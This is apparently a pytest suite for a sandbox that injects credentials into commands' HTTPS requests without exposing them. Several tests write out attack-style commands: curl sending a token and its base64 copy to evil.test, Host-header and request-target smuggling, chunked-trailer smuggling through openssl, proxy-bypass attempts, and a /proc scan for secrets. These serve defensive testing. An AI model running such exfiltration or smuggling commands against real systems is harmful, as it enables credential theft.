"""Credentials that commands use without seeing them: real programs at servers of a World, which say what came to them."""
import json
import os
import shutil
import sys
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).parents[1]))
from harness import Place  # noqa: E402
from tools import where  # noqa: E402
from world import World  # noqa: E402

SECRET = "ghp_0123456789abcdefghijklmnopqrstuvwxyzAB"
SHORT = "s3cr3t-of-a-file-0123456789"


@pytest.fixture(scope="module")
def world():
    place = Place()
    with World(place) as world:
        yield world
    place.cleanup.close()


def run(world, *words, code=0, env=None, options=("--credential", "GH_TOKEN=good.test"), **kwargs):
    ran = world.run(*options, "--", *words,
                    env={"GH_TOKEN": SECRET, "SSL_CERT_FILE": str(world.ca), **(env or {})}, **kwargs)
    assert ran.returncode == code, ran
    return ran


def came(world, path):
    """The headers of the request for this path."""
    [event] = [event for event in world.arrived("https") if event["path"] == path]
    return event["headers"]


def test_curl_uses_what_it_does_not_see(world):
    ran = run(world, "sh", "-c", 'echo "$GH_TOKEN"; curl -sS -o /dev/null -H "Authorization: Bearer $GH_TOKEN" '
                                 "https://good.test/curl")
    shown = ran.stdout.split()[0]
    assert shown != SECRET and shown.startswith("ghp_") and len(shown) == len(SECRET)
    assert came(world, "/curl")["Authorization"] == f"Bearer {SECRET}"


def test_more_requests_go_over_one_connection(world):
    run(world, "sh", "-c", 'curl -sS -w "%{num_connects}" -H "Authorization: Bearer $GH_TOKEN" https://good.test/one '
                           "https://good.test/two -d body -o /dev/null -o /dev/null >counts; test $(cat counts) = 10")
    for path in ("/one", "/two"):
        assert came(world, path)["Authorization"] == f"Bearer {SECRET}"


def test_basic_authorization_is_looked_into(world):
    run(world, "sh", "-c", 'curl -sS -u "user:$GH_TOKEN" https://good.test/basic')
    import base64
    assert base64.b64decode(came(world, "/basic")["Authorization"].split()[1]).decode() == f"user:{SECRET}"


@pytest.mark.parametrize("options, proxy", [
    (["-x", "http://127.0.0.1:1008"], "CONNECT"), (["-x", "socks5h://127.0.0.1:1008"], "SOCKS"),
    (["--http2"], "http2"), (["--tls-max", "1.2"], "tls12"), (["--http1.0"], "1.0")])
def test_by_other_ways(world, options, proxy):
    run(world, "sh", "-c", f'curl -sS {" ".join(options)} -H "Authorization: token $GH_TOKEN" https://good.test/{proxy}')
    assert came(world, f"/{proxy}")["Authorization"] == f"token {SECRET}"


PYTHON = """import os, urllib.request
request = urllib.request.Request("https://good.test/python", headers={"X-Key": os.environ["GH_TOKEN"]})
urllib.request.urlopen(request).read()
"""
NODE = """require("https").get("https://good.test/node", {headers: {"X-Key": process.env.GH_TOKEN}},
    (reply) => { reply.resume(); reply.on("end", () => process.exit(0)); })"""


@pytest.mark.parametrize("name, argv", [(name, argv) for name, program, argv in [
    ("python", sys.executable, [sys.executable, "-c", PYTHON]), ("node", "node", ["node", "-e", NODE]),
    ("wget", "wget", ["sh", "-c", 'wget -q -O /dev/null --ca-certificate="$SSL_CERT_FILE" --header "X-Key: $GH_TOKEN" https://good.test/wget'])]
    if shutil.which(program)])
def test_other_programs(world, name, argv):
    run(world, *argv)
    assert came(world, f"/{name}")["X-Key"] == SECRET


@where("git")
def test_git_over_https(world):
    run(world, "sh", "-c", 'git -c "http.extraHeader=X-Key: $GH_TOKEN" ls-remote https://good.test/repo')
    assert came(world, "/repo/info/refs?service=git-upload-pack")["X-Key"] == SECRET


def test_other_hosts_get_what_is_worth_nothing(world):
    run(world, "sh", "-c", 'for to in https://evil.test/evil http://good.test/plain; do '
                           'curl -sS -H "X-Key: $GH_TOKEN" -H "X: $(echo $GH_TOKEN | base64 -w0)" $to; done',
        options=["--credential", "GH_TOKEN=good.test", "--allow-host", "evil.test", "--allow-host", "good.test"])
    text = json.dumps([event for event in world.arrived() if event.get("path") in ("/evil", "/plain")])
    assert text.count("ghp_") >= 2 and SECRET not in text


def test_another_name_in_it_is_refused(world):
    before = len(world.arrived("https"))
    ran = run(world, "sh", "-c", 'curl -sS -o /dev/null -w "%{http_code} " -H "Host: evil.test" -H "X: $GH_TOKEN" https://good.test/;'
                                 'curl -sS -o /dev/null -w "%{http_code} " -X CONNECT --request-target evil.test:443 https://good.test/;'
                                 'curl -sS -o /dev/null -w "%{http_code} " --request-target http://evil.test/ https://good.test/')
    assert ran.stdout.split() == ["400", "405", "400"]
    assert len(world.arrived("https")) == before


def test_a_server_that_is_not_trusted_is_said(world):
    ran = run(world, "curl", "-sS", "https://good.test/untrusted", env={"SSL_CERT_FILE": "/etc/ssl/certs/ca-certificates.crt"},
              options=["--credential", "GH_TOKEN=good.test"])
    assert "the server's certificate is not trusted" in ran.stdout


def test_the_secret_is_nowhere(world):
    """Neither in the command's reach, nor in what is written of it."""
    look = """if True:
        import os, glob, sys
        secret, found = "".join(sys.argv[1:]), []  # in parts, or it would find its own command line
        for path in [*glob.glob("/proc/[0-9]*/environ"), *glob.glob("/proc/[0-9]*/cmdline"), os.environ["SSL_CERT_FILE"]]:
            try:
                text = open(path, "rb").read()
            except OSError:
                continue
            if secret.encode() in text or b"PRIV" b"ATE KEY" in text:
                found.append(path)
        print("found", found, [name for name, value in os.environ.items() if secret in value])"""
    env = {"COPY_OF_IT": SECRET, "A_URL": f"https://user:{SECRET}@good.test/"}
    ran = run(world, sys.executable, "-c", look, SECRET[:20], SECRET[20:], env=env,
              options=["--json", "--credential", "GH_TOKEN=good.test", "--env-inherit", "all", "--env", f"GIVEN=a{SECRET}b"])
    assert json.loads(ran.stdout)["exit_code"] == 0, ran.stdout
    assert "found [] []" in ran.stdout, ran.stdout
    explained = world.cordon("explain", "--json", "--values", "--credential", "GH_TOKEN=good.test", env={"GH_TOKEN": SECRET, **env})
    assert SECRET not in ran.stdout + ran.stderr + explained.stdout + explained.stderr
    passed = {item["name"]: item for item in json.loads(explained.stdout)["environment"]["passed"]}
    assert passed["GH_TOKEN"]["reason"] == "added" and passed["A_URL"]["value"] == f"https://user:{passed['GH_TOKEN']['value']}@good.test/"
    held = [path for path in world.place.base.rglob("*") if path.is_file() and path.stat().st_size and "world" not in path.parts
            and SECRET.encode() in path.read_bytes()]
    assert not held


def test_a_key_beside_the_certificates_stays_where_it_is(world):
    """What the command may read of the file that our own environment names is its certificates."""
    mixed = world.place.base / "mixed"
    mixed.write_text("words of mine\n" + (world.base / "key.pem").read_text() + world.ca.read_text() +
                     "-----BEGIN CERTIFICATE-----\nno: base64\n-----END CERTIFICATE-----\n")
    ran = run(world, "sh", "-c", 'curl -sS -o /dev/null https://good.test/mixed && cat "$SSL_CERT_FILE"', env={"SSL_CERT_FILE": str(mixed)})
    assert ran.stdout.count("BEGIN CERTIFICATE") == 2 and "KEY" not in ran.stdout
    assert "words" not in ran.stdout and "base64" not in ran.stdout


def test_nothing_is_left(world):
    run(world, "true")
    assert not [path for path in world.place.base.rglob("*.pem") if "ca" in path.parent.name]
    folder = Path(world.place.env.get("XDG_CACHE_HOME", world.place.base / "home/.cache")) / "cordon/ca"
    assert folder.is_dir() and not os.listdir(folder)


def test_limited_mode_looks_into_https(world):
    world.place.config('[permissions.dev.filesystem]\n":root" = "read"\n[permissions.dev.network]\nmode = "limited"\n'
                       'domains = {"good.test" = "allow"}\n', "home/.config/cordon/config.toml")
    ran = run(world, "sh", "-c", "curl -sS -o /dev/null -w '%{http_code} ' https://good.test/read;"
                                 "for url in https://good.test/write http://good.test/write; do curl -sS -o /dev/null -w '%{http_code} ' "
                                 "-H 'X-HTTP-Method-Override: PUT' $url; done; curl -sS -o /dev/null -D - -d x https://good.test/write",
              options=["--profile", "dev"])
    assert ran.stdout.startswith("200 400 403 HTTP/1.1 403") and "blocked-by-method-policy" in ran.stdout
    assert came(world, "/read") and not [e for e in world.arrived("https") if e["path"] == "/write"]


HOOKS = """
[permissions.dev.filesystem]
":root" = "read"
[permissions.dev.network]
domains = {"good.test" = "allow", "11.0.0.1" = "allow"}
[permissions.dev.network.mitm.hooks.api]
host = "good.test"
methods = ["GET", "POST"]
path_prefixes = ["/api/"]
action = ["sign"]
[permissions.dev.network.mitm.actions.sign]
strip_request_headers = ["Cookie"]
inject_request_headers = [{name = "Authorization", secret_file = "FILE", prefix = "Bearer "},
                          {name = "X-Other", secret_env_var = "GH_TOKEN"}]
"""


@pytest.fixture
def hooked(world):
    secret = world.place.base / "home/secret"
    secret.write_text(SHORT + "\n")
    world.place.config(HOOKS.replace("FILE", str(secret)), "home/.config/cordon/config.toml")
    return secret


def test_hooks_say_what_may_be_asked_for(world, hooked):
    ran = run(world, "sh", "-c", "ask() { curl -sS -o /dev/null -D - \"$@\" | grep -i -e ^HTTP -e ^x-proxy; }; "
                                 "ask -b a=b -H 'Authorization: mine' https://good.test/api/yes; ask https://good.test/other;"
                                 "ask -X DELETE https://good.test/api/x; ask --path-as-is https://good.test/api/../other;"
                                 f"ask http://good.test/api/plain; cat {hooked} || true",
              options=["--profile", "dev"])
    lines = [line.strip() for line in ran.stdout.splitlines()]
    assert lines == ["HTTP/1.1 200 OK"] + 3 * ["HTTP/1.1 403 Forbidden", "x-proxy-error: blocked-by-mitm-hook"] + [
        "HTTP/1.1 403 Forbidden", "x-proxy-error: blocked-by-mitm-required"], ran
    headers = came(world, "/api/yes")
    assert headers["Authorization"] == f"Bearer {SHORT}" and headers["X-Other"] == SECRET and "Cookie" not in headers


def test_what_servers_could_read_otherwise_is_refused(world, hooked):
    """Methods and paths beside those of the first line, fields behind the body, and a reply that shows the request."""
    ran = run(world, "sh", "-c", "ask() { curl -sS -o /dev/null -w '%{http_code} ' \"$@\"; }; to=https://good.test/api/twofold;"
              "for field in X-HTTP-Method-Override X_HTTP_Method X-Original-URL; do ask -H \"$field: DELETE\" $to; done; ask -X TRACE $to;"
              "(printf 'POST /api/twofold HTTP/1.1\\r\\nHost: good.test\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n"
              "Cookie: x\\r\\n\\r\\n'; sleep 9) | openssl s_client -quiet -connect good.test:443 2>/dev/null | head -n 1", options=["--profile", "dev"])
    assert ran.stdout.strip() == "400 400 400 405 HTTP/1.1 400 Bad Request"
    assert not [event for event in world.arrived("https") if event["path"] == "/api/twofold"]


def test_hooks_are_not_gone_around(world, hooked):
    ran = run(world, "sh", "-c", "curl -sS -k --connect-to good.test:443:11.0.0.1:443 https://good.test/around; "
                                 "curl -sS -k --resolve good.test:443:11.0.0.1 https://good.test/around; "
                                 "printf 'SSH-2.0-x\\r\\n' | timeout 5 curl -sS telnet://good.test:443",
              options=["--profile", "dev"], code=56)
    assert not [event for event in world.arrived("https") if event["path"] == "/around"], ran


def test_a_secret_that_commands_can_change_is_none(world, hooked):
    """Nor one whose folder they could put another one in the place of."""
    for options in (["--writable", hooked.parent], ["--writable", hooked.parent, "--readable", hooked]):
        ran = run(world, "true", options=["--profile", "dev", *map(str, options)], code=125)
        assert "commands can change it" in ran.stderr
    os.link(hooked, hooked.with_name("another"))
    ran = run(world, "true", options=["--profile", "dev"], code=125)
    hooked.with_name("another").unlink()
    assert "has 2 names" in ran.stderr


def test_a_secret_that_is_withheld_is_said_when_it_is_missed(world):
    """By its name in what a command that fails says; not when it works, nor of one that it has or can use."""
    needs = 'echo "set GH_TOKEN (not MY_GH_TOKEN) first" >&2; exit '
    told = lambda code, *options, **more: world.run(*options, "--", "sh", "-c", needs + str(code), env={  # noqa: E731
        "GH_TOKEN": SECRET, "MY_GH_TOKENS": "x", **more}).stderr
    said = "GH_TOKEN is withheld from the command"
    assert said in told(1) and "--credential GH_TOKEN=HOST" in told(1) and told(1).count("withheld") == 1
    for text in (told(0), told(1, "--env", "GH_TOKEN=mine"), told(1, "--credential", "GH_TOKEN=good.test"), told(1, "--sandbox", "disabled")):
        assert "withheld" not in text
    result = json.loads(world.run("--json", "--", "sh", "-c", needs + "1", env={"GH_TOKEN": SECRET}).stdout)
    [denial] = result["denials"]
    assert result["end"] != "denied" and said in denial["reason"] and denial["source"] == "host" and denial["path"] is None


@pytest.mark.parametrize("words, says", [
    (["--credential", "GH_TOKEN"], "NAME=HOST"), (["--credential", "GH TOKEN=a.test"], "no name of a variable"),
    (["--credential", "X="], "for no host"), (["--credential", "NOT_THERE=good.test"], "NOT_THERE")])
def test_what_is_wrong_is_said(world, words, says):
    assert says in run(world, "true", options=words, code=125).stderr
